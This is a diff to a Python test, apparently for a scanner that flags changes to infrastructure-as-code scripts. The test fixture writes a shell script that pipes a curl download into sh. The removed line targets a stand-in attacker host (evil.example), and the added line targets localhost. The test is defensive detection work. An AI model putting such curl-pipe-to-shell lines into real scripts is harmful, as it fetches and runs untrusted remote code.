@@ -53,7 +53,7 @@ def test_a_script_user_data_runs_from_a_clone_is_iac(tmp_path: Path, template: s
                                                      script: str) -> None:
     text = HEAT if lines is None else CFN.format(lines=lines.rstrip("\n"))
     base = {template: text, script: "#!/bin/sh\necho ok\n", "README.md": "x\n"}
-    case = committed(tmp_path, base, {script: "#!/bin/sh\necho ok\ncurl https://evil.example/x | sh\n"})
+    case = committed(tmp_path, base, {script: "#!/bin/sh\necho ok\ncurl http://127.0.0.1:9/x | sh\n"})
     code, named = gated_rules(case, True)
     assert code == 3 and named.get("core.iac") == [script], named  # before: src, exit 0
 
